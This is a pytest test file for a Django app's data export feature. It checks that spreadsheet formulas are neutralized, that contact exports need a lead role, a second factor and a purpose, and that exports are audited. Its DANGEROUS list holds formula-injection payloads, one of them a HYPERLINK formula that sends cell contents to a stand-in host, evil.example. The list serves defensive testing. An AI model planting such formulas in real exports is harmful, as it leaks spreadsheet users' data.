"""Exports: formula neutralization, contacts need lead + second factor + purpose, audited."""

import io
import json

import openpyxl
import pytest
import tablib
from django.urls import reverse

from coalition.permissions import Role
from core.models import AuditEvent
from exchange.formats import neutralize, render
from tests.coalition.factories import ContactFactory, OrganizationFactory
from tests.conftest import client_for
from tests.factories import MembershipFactory, UserFactory

DANGEROUS = [
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(A1)",
    "\tTAB",
    "\rCR",
    '==HYPERLINK("http://evil.example/?"&A1,"click")',
]


@pytest.mark.parametrize("value", DANGEROUS)
def test_every_formula_start_is_neutralized(value):
    assert neutralize(value) == "'" + value


@pytest.mark.parametrize("value", DANGEROUS)
@pytest.mark.parametrize("fmt", ["csv", "json", "xlsx", "ods"])
def test_each_format_writes_the_cell_as_inert_text(value, fmt):
    data = render(fmt, ["name"], [[value]])
    if fmt == "csv":
        cell = data.decode("utf-8-sig").splitlines()[1]
        assert cell.strip('"').startswith("'")
    elif fmt == "json":
        assert json.loads(data)[0]["name"] == "'" + value
    elif fmt == "xlsx":
        cell = openpyxl.load_workbook(io.BytesIO(data)).active["A2"]
        assert cell.data_type == "s"
        assert cell.value.startswith("'")  # (XML reads a carriage return back as \n)
    else:
        sheet = tablib.Dataset().load(io.BytesIO(data).read(), format="ods")
        assert sheet[0][0].startswith("'")


def test_an_organization_export_neutralizes_a_name(campaign, observer):
    OrganizationFactory(campaign=campaign, name='=HYPERLINK("http://x")')
    url = reverse(
        "exchange:campaign_export",
        kwargs={"campaign_slug": campaign.slug, "resource": "organizations"},
    )
    response = client_for(observer).get(url + "?format=csv")
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    assert "'=HYPERLINK" in body


def test_outsider_gets_404_and_other_campaigns_rows_never_appear(
    campaign, other_campaign, lead, outsider
):
    OrganizationFactory(campaign=other_campaign, name="Their secret ally")
    url = reverse(
        "exchange:campaign_export",
        kwargs={"campaign_slug": campaign.slug, "resource": "organizations"},
    )
    assert client_for(outsider).get(url).status_code == 404
    body = b"".join(client_for(lead).get(url + "?format=json").streaming_content)
    assert b"Their secret ally" not in body


def _contact_export(campaign):
    return reverse("exchange:contact_export", kwargs={"campaign_slug": campaign.slug})


def test_contact_export_needs_a_purpose(campaign, lead):
    response = client_for(lead).post(
        _contact_export(campaign), {"file_format": "xlsx", "purpose": ""}
    )
    assert response.status_code == 400
    assert not AuditEvent.objects.filter(action="exchange.exported").exists()


def test_contact_export_needs_a_second_factor(campaign, settings):
    settings.REQUIRE_LEAD_MFA = False  # the page itself must still refuse
    user = UserFactory(email="lead-without-mfa@example.org")
    MembershipFactory(campaign=campaign, user=user, role=Role.LEAD)
    response = client_for(user).post(
        _contact_export(campaign), {"file_format": "csv", "purpose": "Hearing mail merge"}
    )
    assert response.status_code == 403


def test_coordinator_may_not_export_contacts(campaign, coordinator):
    response = client_for(coordinator).get(_contact_export(campaign))
    assert response.status_code == 403


def test_contact_export_is_audited_with_its_purpose(campaign, lead):
    contact = ContactFactory(campaign=campaign, name="Ana Ruiz", email="ana@example.org")
    response = client_for(lead).post(
        _contact_export(campaign), {"file_format": "xlsx", "purpose": "Hearing mail merge"}
    )
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert [c.value for c in sheet[2]][1:3] == ["Ana Ruiz", "ana@example.org"]
    event = AuditEvent.objects.get(action="exchange.exported")
    assert event.reason == "Hearing mail merge"
    assert event.actor == lead
    assert {"model": "coalition.contact", "pk": str(contact.pk)} in event.objects_affected


def test_contacts_are_not_in_the_generic_export(campaign, lead):
    from exchange.views import campaign_export

    request_path = f"/exchange/c/{campaign.slug}/export/contacts/"
    response = client_for(lead).get(request_path + "?format=csv")
    assert b'name="purpose"' in response.content  # the personal-data page, not a download
    assert campaign_export.__wrapped__ is not None


def test_reference_export(db, coordinator):
    from tests.targets.factories import ArrangementFactory

    ArrangementFactory(notes="@cmd")
    url = reverse("exchange:reference_export", kwargs={"resource": "arrangements"})
    response = client_for(coordinator).get(url + "?format=ods")
    assert response.status_code == 200
    assert "'@cmd" in tablib.Dataset().load(response.content, format="ods").export("csv")


def test_story_counts_export_has_no_story_content(campaign, observer, volunteer):
    from tests.stories.factories import consent, make_story

    consent(make_story(campaign, taken_by=volunteer, narrative="Secret narrative"), by=volunteer)
    url = reverse(
        "exchange:campaign_export",
        kwargs={"campaign_slug": campaign.slug, "resource": "story-counts"},
    )
    body = b"".join(client_for(observer).get(url + "?format=csv").streaming_content).decode()
    assert "Secret" not in body and "Rosa" not in body
    assert "total" in body
